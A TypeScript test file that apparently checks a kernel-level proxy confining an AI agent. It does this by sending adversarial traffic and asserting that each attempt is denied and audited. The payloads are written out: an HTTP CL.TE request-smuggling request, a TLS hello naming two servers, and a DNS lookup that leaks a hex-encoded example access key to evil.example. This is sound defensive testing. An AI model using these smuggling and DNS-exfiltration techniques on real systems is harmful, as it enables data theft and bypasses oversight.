// A representative part of the adversarial corpus (issue 14) through the kernel
// redirect: a managed agent in a cgroup with Lilith's cgroup programs attached
// sends to the REAL destinations (Node's HTTP server, the MCP SDK server, Node's
// TLS server, a UDP resolver it names itself); only the kernel sends it through
// the proxy. Each case records what the policy said (audit event), what reached
// the peer, and what the agent saw: CL.TE smuggling, an unknown method to an
// MCP destination, a TLS hello naming two servers, a DNS TXT lookup carrying a
// secret. Runs as root under the shared kernel lock.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { CODER_ID, kernelSkipReason, ManagedAgent } from './kernel-harness.js';
import { startDnsServer, startHttpUpstream, startTlsUpstream, type HttpUpstream } from './upstreams.js';
import { startMcpServer } from './mcp-server.js';

let skip: string | false = false;
let managed: ManagedAgent | undefined;
const cleanups: Array<() => Promise<void> | void> = [];
let web: HttpUpstream;
let tls: Awaited<ReturnType<typeof startTlsUpstream>>;
let files: Awaited<ReturnType<typeof startMcpServer>>;
let resolver: Awaited<ReturnType<typeof startDnsServer>>;

before(async () => {
  skip = kernelSkipReason();
  if (skip) return;
  web = await startHttpUpstream();
  cleanups.push(() => web.close());
  tls = await startTlsUpstream();
  cleanups.push(() => tls.close());
  files = await startMcpServer('files', { read_file: { args: ['path'], impl: () => 'contents' } });
  cleanups.push(() => files.close());
  resolver = await startDnsServer({ 'api.github.com': '140.82.112.5' });
  cleanups.push(() => resolver.close());
  managed = await ManagedAgent.start({
    dnsUpstream: `127.0.0.1:${resolver.port}`,
    config: (c) => {
      c.upstreams = { files: { address: `127.0.0.1:${files.port}`, kind: 'mcp' } };
    },
  });
});

after(async () => {
  await managed?.close();
  for (const c of cleanups.reverse()) await c();
});

const inAgent = (args: string[]) => managed!.agent(args);
const eventsSince = (n: number) => managed!.events(n);

const raw = (port: number, bytes: Buffer | string, ms = 3000) =>
  inAgent(['raw', '127.0.0.1', String(port), Buffer.from(bytes).toString('base64'), String(ms)]) as Promise<{
    pid: number;
    data: string;
    closed: boolean;
    reset: boolean;
  }>;

test('kernel redirect, adversarial: CL.TE smuggling, an unknown method to MCP, two SNIs, DNS TXT exfil', async (t) => {
  if (skip) return t.skip(skip);
  const report: string[] = [];

  // CL.TE: a front reading Content-Length and a back reading chunked would disagree on where the request ends.
  let seen = (await eventsSince(0)).length;
  const clte = await raw(
    web.port,
    'POST /api/echo HTTP/1.1\r\nHost: localhost\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nG',
  );
  let ev = await eventsSince(seen);
  assert.match(clte.data, /^HTTP\/1\.1 400 /, 'refused by the proxy');
  assert.equal(web.requests.length, 0, 'nothing reached the HTTP server');
  assert.ok(
    ev.some((e) => e.decision === 'deny' && e.spiffe_id === CODER_ID && /Transfer-Encoding/i.test(e.reason ?? '')),
    JSON.stringify(ev),
  );
  report.push(`CL.TE → ${clte.data.slice(0, 12)}; upstream saw ${web.requests.length}; audit: ${ev.at(-1)?.reason}`);

  // An unknown method to the declared MCP upstream is not MCP: refused, never decided as a session request.
  seen += ev.length;
  const bodies = files.bodies.length;
  const foo = await raw(files.port, 'FOO /mcp HTTP/1.1\r\nHost: localhost\r\n\r\n');
  ev = await eventsSince(seen);
  assert.match(foo.data, /^HTTP\/1\.1 405 /);
  assert.equal(files.bodies.length, bodies, 'nothing reached the MCP server');
  assert.ok(
    ev.some((e) => e.decision === 'deny' && /FOO to an MCP upstream/.test(e.reason ?? '')),
    JSON.stringify(ev),
  );
  assert.ok(!ev.some((e) => e.decision === 'allow'));
  report.push(`FOO to MCP → ${foo.data.slice(0, 12)}; audit: ${ev.at(-1)?.reason}`);

  // A ClientHello naming an allowed server and another one: the server may take either, so it is refused.
  seen += ev.length;
  const accepted = tls.connections();
  const list = Buffer.concat(['localhost', 'evil.example'].map((n) => Buffer.concat([Buffer.from([0, 0, n.length]), Buffer.from(n)])));
  const sni = Buffer.concat([Buffer.from([0, 0, 0, list.length + 2, 0, list.length]), list]);
  const body = Buffer.concat([Buffer.from([3, 3]), Buffer.alloc(32, 7), Buffer.from([0, 0, 2, 0x13, 0x01, 1, 0, 0, sni.length]), sni]);
  const hs = Buffer.concat([Buffer.from([1, 0, body.length >> 8, body.length & 0xff]), body]);
  const hello = await raw(tls.port, Buffer.concat([Buffer.from([0x16, 3, 1, hs.length >> 8, hs.length & 0xff]), hs]));
  ev = await eventsSince(seen);
  assert.ok(hello.closed && hello.data === '', `two SNIs: ${JSON.stringify(hello)}`);
  assert.equal(tls.connections(), accepted, 'the TLS server was never connected to');
  assert.ok(
    ev.some((e) => e.decision === 'deny' && /more than one server name/.test(e.reason ?? '')),
    JSON.stringify(ev),
  );
  report.push(`two SNIs → ${hello.reset ? 'reset' : 'closed'}; audit: ${ev.at(-1)?.reason}`);

  // A TXT lookup whose name carries the secret, to a resolver the agent picked: the front answers, nothing leaves.
  seen += ev.length;
  const secret = Buffer.from('AKIAIOSFODNN7EXAMPLE').toString('hex');
  const txt = (await inAgent(['dns', '8.8.8.8', `${secret}.evil.example`, '16'])) as { rcode: number };
  ev = await eventsSince(seen);
  assert.equal(txt.rcode, 3, 'NXDOMAIN');
  assert.ok(!resolver.seen.some((n) => n.includes(secret)), 'the secret never reached a resolver');
  assert.ok(ev.some((e) => e.protocol === 'dns' && e.decision === 'deny' && e.spiffe_id === CODER_ID && e.resource.includes(secret)));
  report.push(`TXT ${secret.slice(0, 12)}….evil.example → rcode ${txt.rcode}; resolver saw ${resolver.seen.length} names`);

  assert.equal(managed!.dp.activeConnections(), 0);
  t.diagnostic(report.join('\n'));
});
